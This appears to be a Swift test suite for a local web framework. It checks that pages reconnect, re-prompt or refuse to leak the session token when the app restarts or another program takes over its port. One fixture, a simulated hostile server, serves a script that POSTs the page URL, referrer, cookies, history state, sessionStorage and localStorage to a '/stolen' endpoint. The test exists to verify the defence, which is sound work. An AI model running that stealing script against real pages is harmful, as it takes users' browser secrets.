import Synchronization

@testable import TributaryWeb

/// Programs that end and start again on their port.
@Suite(.serialized, .waitsForPrograms) struct RestartTests {
  /// A private folder for the tokens of a session, which is removed with this object, and a port that was free a moment
  /// ago.
  private final class Session {
    let folder: URL
    let port: Int

    init() throws {
      let app = try ServedApp("MonthSelector")
      app.stop()
      port = app.port
      folder = FileManager.default.temporaryDirectory.appending(component: "session-\(UUID().uuidString)")
      try FileManager.default.createDirectory(at: folder, withIntermediateDirectories: true)
      try FileManager.default.setAttributes([.posixPermissions: 0o700], ofItemAtPath: folder.path)
    }

    deinit { try? FileManager.default.removeItem(at: folder) }

    /// Starts a program on the port.
    func start() throws -> ServedApp { try ServedApp("MonthSelector", port: port, session: folder) }

    var names: [String] { (try? FileManager.default.contentsOfDirectory(atPath: folder.path)) ?? [] }
  }

  @Test func `A program has the same address after a restart on the same port`() throws {
    let session = try Session()
    let first = try session.start()
    expect(first.stop(), equals: 0)
    let file = "tributary-MonthSelector-\(session.port).token"
    expect(session.names, equals: [file])
    let second = try session.start()
    expect(second.address, equals: first.address)
    expect(second.stop(), equals: 0)
    try FileManager.default.removeItem(at: session.folder.appending(component: file))
    let third = try session.start()
    expect(third.address, differsFrom: first.address)
    expect(third.stop(), equals: 0)
  }

  @Test func `A program on a free port, or without a folder for the session, has a new address`() throws {
    let session = try Session()
    let free = try ServedApp("MonthSelector", port: 0, session: session.folder)
    expect(free.stop(), equals: 0)
    expectEmpty(session.names)
    let first = try ServedApp("MonthSelector", port: free.port)
    expect(first.stop(), equals: 0)
    let second = try ServedApp("MonthSelector", port: free.port)
    expect(second.port, equals: first.port)
    expect(second.address, differsFrom: first.address)
    expect(second.stop(), equals: 0)
  }

  @Test(.enabled(if: HeadlessBrowser.path != nil, "no Chromium is installed"))
  func `The page of a program that keeps its address reconnects`() throws {
    let session = try Session()
    let opened = try OpenedApp(session.start(), shows: "June")
    let page = opened.page
    expect(opened.served.stop(), equals: 0)
    expect(try page.wait("document.getElementById('notice').textContent.includes('at this address')"))
    let second = try session.start()
    expect(try page.wait("document.getElementById('notice').hidden"))
    expect(try page.shows("June"))
    expect(second.stop(), equals: 0)
  }

  @Test(.enabled(if: HeadlessBrowser.path != nil, "no Chromium is installed"))
  func `The page of a program that gets a new address asks for the new address`() throws {
    let opened = try OpenedApp(ServedApp("MonthSelector"), shows: "June")
    let page = opened.page
    expect(opened.served.stop(), equals: 0)
    expect(try page.wait("document.getElementById('notice').textContent.includes('open the address')"))
    let second = try ServedApp("MonthSelector", port: opened.served.port)
    expect(try page.wait("document.getElementById('notice').textContent.includes('token')"))
    expect(second.stop(), equals: 0)
  }

  /// Makes requests with input fail when the end of the stream arrives, before the page reads it.
  private static let failingInput = """
    const send = window.fetch, { read } = ReadableStreamDefaultReader.prototype;
    let fail = null, signal = null;
    window.fetch = (path, options) => {
      if (path === "/events") signal = options.signal;
      return path === "/input" && window.holdsInput ? new Promise((_, reject) => { fail = reject; }) : send(path, options);
    };
    ReadableStreamDefaultReader.prototype.read = async function () {
      const result = await read.call(this);
      if (typeof result.value === "string" && result.value.includes('"end"')) {
        fail?.(new TypeError("network error"));
        await new Promise(done => setTimeout(done, 100));
        signal.throwIfAborted();
      }
      return result;
    };
    """

  @Test(.enabled(if: HeadlessBrowser.path != nil, "no Chromium is installed"))
  func `A page whose input fails because the program ends reads the reason`() throws {
    let served = try ServedApp("MonthSelector")
    let browser = try HeadlessBrowser()
    let page = try browser.open(served.address, script: Self.failingInput)
    expect(try page.shows("June"))
    try page.value("holdsInput = true")
    try page.press("a")
    expect(served.stop(), equals: 0)
    expect(try page.wait("!document.getElementById('notice').hidden"))
    try expect(page.text("document.getElementById('notice').textContent"), contains: "open the address")
  }

  @Test(.enabled(if: HeadlessBrowser.path != nil, "no Chromium is installed"))
  func `The page of a program that was killed reports the lost connection, and reconnects`() throws {
    let session = try Session()
    let opened = try OpenedApp(session.start(), shows: "June")
    let page = opened.page
    kill(opened.served.process.processIdentifier, SIGKILL)
    #expect(
      try page.wait("document.getElementById('notice').textContent.includes('connection to the program was lost')"))
    let second = try session.start()
    expect(second.address, equals: opened.served.address)
    expect(try page.wait("document.getElementById('notice').hidden"))
    expect(second.stop(), equals: 0)
  }

  // MARK: Other programs on the port

  /// A program of another user that listens on the port of an ended program. Its page reports everything that it can
  /// read.
  private final class Stranger: Sendable {
    private struct State {
      var proof = HTTPResponse(404)
      var received: [String] = []
    }

    private let state: Shared
    private let server: WebServer

    private final class Shared: Sendable { let value = Mutex(State()) }

    private static let page = """
      <!DOCTYPE html><p id="stranger">stranger</p><script>
      fetch("/stolen", { method: "POST", body: [
        location.href, document.referrer, document.cookie, JSON.stringify(history.state), JSON.stringify(sessionStorage),
        JSON.stringify(localStorage), window.name,
      ].join(" ") }).then(() => { window.isDone = true; });
      </script>
      """

    init(port: Int) throws {
      let state = Shared()
      self.state = state
      server = try WebServer(limits: HTTPLimits()) { request, exchange in
        let fields = request.fields.map { "\($0.name): \($0.value)" }
        let lines = ["\(request.method) \(request.target)"] + fields + [String(decoding: request.body, as: UTF8.self)]
        let proof = state.value.withLock { state in
          state.received.append(lines.joined(separator: "\n"))
          return state.proof
        }
        switch request.target {
        case "/proof": exchange.respond(proof)
        case "/events": exchange.respond(.eventStream)
        default: exchange.respond(HTTPResponse(200, type: "text/html", body: Array(Self.page.utf8)))
        }
      }
      _ = try server.start(port: #require(UInt16(exactly: port)))
    }

    /// The requests so far.
    var received: [String] { state.value.withLock { $0.received } }

    /// Answers further challenges with a response.
    func answerChallenges(with response: HTTPResponse) { state.value.withLock { $0.proof = response } }

    func stop() { server.stop() }
  }

  /// Counts the requests with input, and the answers.
  private static let countingInput = """
    const send = window.fetch;
    window.sentInputs = window.answeredInputs = 0;
    window.fetch = async (path, options) => {
      if (path !== "/input") return send(path, options);
      sentInputs++;
      const response = await send(path, options);
      answeredInputs++;
      return response;
    };
    """

  @Test(.enabled(if: HeadlessBrowser.path != nil, "no Chromium is installed"), arguments: [false, true])
  func `A program that listens on the port after the end receives no secret from an open page`(isKilled: Bool) throws {
    let session = try Session()
    let first = try session.start()
    let token = String(first.address.suffix(32))
    let browser = try HeadlessBrowser()
    let page = try browser.open(first.address, script: Self.countingInput)
    expect(try page.shows("June"))
    // The browser can repeat a request that was in flight when its connection broke.
    expect(try page.wait("answeredInputs > 0 && answeredInputs === sentInputs"))
    try expect(page.text("location.hash"), equals: "#" + token)
    let nonce = AccessToken().text
    let client = try RawClient(port: #require(UInt16(exactly: session.port)))
    let answer = client.response(
      to: "POST /proof HTTP/1.1\r\nHost: localhost:\(session.port)\r\nContent-Type: application/json\r\n"
        + "Content-Length: 44\r\n\r\n{\"nonce\":\"\(nonce)\"}")
    let old = try #require(answer.split(separator: "\r\n\r\n").last.map(String.init))
    expect(old, contains: "proof")
    client.close()
    if isKilled { kill(first.process.processIdentifier, SIGKILL) } else { expect(first.stop(), equals: 0) }
    first.process.waitUntilExit()

    let stranger = try Stranger(port: session.port)
    let notice = "document.getElementById('notice')"
    expect(try page.wait("\(notice).textContent.includes('does not know the token')"))
    var redirection = HTTPResponse(307)
    redirection.fields = [.init(name: "Location", value: "/events")]
    let answers: [HTTPResponse] = [
      .json(old), .json("{\"run\":\"\(nonce)\",\"proof\":\"\"}"), .json("null"), .json("{"), HTTPResponse(409),
      HTTPResponse(403), redirection,
    ]
    for answer in answers {
      stranger.answerChallenges(with: answer)
      let count = stranger.received.count
      try page.value("\(notice).click()")
      try page.press("a")
      try page.value("document.getElementById('inspect').click()")
      for _ in 0..<200 where stranger.received.count == count { page.pause(0.02) }
      expect(stranger.received.count, above: count)
      page.pause(0.3)
    }
    expect(stranger.received.allSatisfy { $0.hasPrefix("POST /proof\n") }, "\(stranger.received)")
    expect(stranger.received.allSatisfy { !$0.contains("tributary-credential") })
    // The user reloads the page, which is now that of the other program.
    try page.call("Page.reload")
    expect(try page.wait("window.isDone && document.getElementById('stranger')"))
    expect(stranger.received.contains { $0.hasPrefix("POST /stolen\n") })
    expect(stranger.received.allSatisfy { !$0.contains(token) }, "\(stranger.received)")
    stranger.stop()
  }

  @Test(.enabled(if: HeadlessBrowser.path != nil, "no Chromium is installed"))
  func `A page continues when its program replaces another one on the port`() throws {
    let session = try Session()
    let opened = try OpenedApp(session.start(), shows: "June")
    let page = opened.page
    expect(opened.served.stop(), equals: 0)
    let stranger = try Stranger(port: session.port)
    expect(try page.wait("document.getElementById('notice').textContent.includes('does not know the token')"))
    try expect(page.text("location.hash"), equals: "")
    stranger.stop()
    let second = try session.start()
    try page.value("document.getElementById('notice').click()")
    expect(try page.wait("document.getElementById('notice').hidden"))
    try expect(page.text("location.href"), equals: second.address)
    expect(second.stop(), equals: 0)
  }

  @Test(.enabled(if: HeadlessBrowser.path != nil, "no Chromium is installed"))
  func `A page that receives a new address in its tab connects without loading again`() throws {
    let opened = try OpenedApp(ServedApp("MonthSelector"), shows: "June")
    let page = opened.page
    expect(opened.served.stop(), equals: 0)
    let second = try ServedApp("MonthSelector", port: opened.served.port)
    expect(try page.wait("document.getElementById('notice').textContent.includes('does not know the token')"))
    try page.value("window.isSameDocument = true; location.href = '\(second.address)'")
    expect(try page.wait("document.getElementById('notice').hidden"))
    try expect(page.value("isSameDocument") as? Bool, equals: true)
    expect(second.stop(), equals: 0)
  }
}
